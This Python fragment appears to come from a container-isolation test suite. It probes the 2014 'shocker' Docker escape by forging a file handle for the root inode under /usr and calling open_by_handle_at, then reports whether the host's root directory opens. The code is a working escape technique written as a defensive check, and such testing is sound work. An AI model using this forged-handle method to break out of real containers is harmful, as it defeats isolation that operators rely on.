# Probe: "shocker" (2014 Docker escape): open_by_handle_at() with a forged handle for the
# root inode (ext4 inode 2) of the filesystem under a read-only bind (/usr) opens the host's
# real root directory. Needs CAP_DAC_READ_SEARCH; must be refused.
p = Probe("open_by_handle_at (shocker)")


class fh(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint32), ("type", ctypes.c_int32), ("data", ctypes.c_uint8 * 128)]


h = fh(bytes=128)
mid = ctypes.c_int(0)
r = sc("name_to_handle_at", -100, b"/usr", ctypes.byref(h), ctypes.byref(mid), 0)
p.note("name_to_handle_at(/usr) -> %s%s" % (en(r[1]), " type=%d bytes=%d" % (h.type, h.bytes) if r[1] == 0 else ""))
mfd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
forged = fh(bytes=8, type=1)  # FILEID_INO32_GEN: inode 2, generation 0
struct.pack_into("II", forged.data, 0, 2, 0)
ret, e = sc("open_by_handle_at", mfd, ctypes.byref(forged), os.O_RDONLY | os.O_DIRECTORY)
if e == 0:
    try:
        names = sorted(os.listdir(ret))[:8]
    except OSError:
        names = "?"
    os.close(ret)
    p.esc("open_by_handle_at(root inode) opened a directory containing %s" % names)
else:
    p.ok("open_by_handle_at(forged root handle) -> %s" % en(e))
if r[1] == 0:
    ret, e = sc("open_by_handle_at", mfd, ctypes.byref(h), os.O_RDONLY)
    if p.sys_attempt("open_by_handle_at(own /usr handle)", (ret, e)):
        os.close(ret)
os.close(mfd)
p.finish()
